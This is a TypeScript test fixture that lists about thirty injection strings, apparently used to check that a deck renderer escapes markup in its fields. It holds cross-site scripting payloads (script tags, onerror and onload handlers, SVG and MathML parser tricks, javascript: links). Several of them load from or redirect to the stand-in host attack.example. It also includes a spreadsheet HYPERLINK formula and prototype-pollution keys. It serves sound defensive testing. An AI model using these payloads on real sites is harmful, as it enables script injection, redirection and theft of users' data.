import { marksIn } from '../../deck/source/plain-words.ts';

/**
 * Attempts to get markup or code into the page, one of each way. Every one would set `globalThis.injected`, ask another
 * host, or change what the page shows, if any field let it through.
 */
const CODE = 'globalThis.injected=1';

export const ATTEMPTS: readonly string[] = [
  `<script>${CODE}</script>`,
  `</script><script>${CODE}</script>`,
  `<!--<script>`,
  `--><script>${CODE}</script>`,
  `<ScRiPt src=//attack.example/x.js></sCrIpT>`,
  `"><img src=x onerror="${CODE}">`,
  `'><img src=x onerror='${CODE}'>`,
  `x" onmouseover="${CODE}" x="`,
  `x' onfocus='${CODE}' autofocus='`,
  `<svg onload=${CODE}>`,
  `<svg><animate onbegin=${CODE} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${CODE}'/>#x"/></svg>`,
  `<iframe srcdoc="<script>parent.injected=1</script>"></iframe>`,
  `<object data="data:text/html,<script>parent.injected=1</script>"></object>`,
  `<embed src=//attack.example/x.swf>`,
  `<a href="javascript:${CODE}">press</a>`,
  `<form action=//attack.example><button>press</button></form>`,
  `<meta http-equiv="refresh" content="0;url=//attack.example">`,
  `<base href="//attack.example/">`,
  `<link rel=stylesheet href=//attack.example/x.css>`,
  `<style>@import "//attack.example/x.css"; * { display: none }</style>`,
  `</style></title></textarea></svg><img src=x onerror=${CODE}>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${CODE}>`,
  `<template><script>${CODE}</script></template>`,
  `<details open ontoggle=${CODE}>`,
  `&lt;script&gt;${CODE}&lt;/script&gt;`,
  `&#60;img src=x onerror=${CODE}&#62;`,
  `&quot; onerror=${CODE} &quot;`,
  '\\u003cscript\\u003e',
  `<![CDATA[<script>${CODE}</script>]]>`,
  `=HYPERLINK("http://attack.example","press")`,
  '__proto__',
  'constructor',
  'toString',
];

/** All attempts in one line of text, for the fields that a deck has once. */
export const ALL_ATTEMPTS: string = ATTEMPTS.join(' · ');

/** What may stand in the plain words of charts and of the ledger, where marks of Markdown, comments and entities are refused. */
export const PLAIN_ATTEMPTS: readonly string[] = ATTEMPTS.filter((attempt) => marksIn(attempt).length === 0);

export const ALL_PLAIN: string = PLAIN_ATTEMPTS.join(' · ');
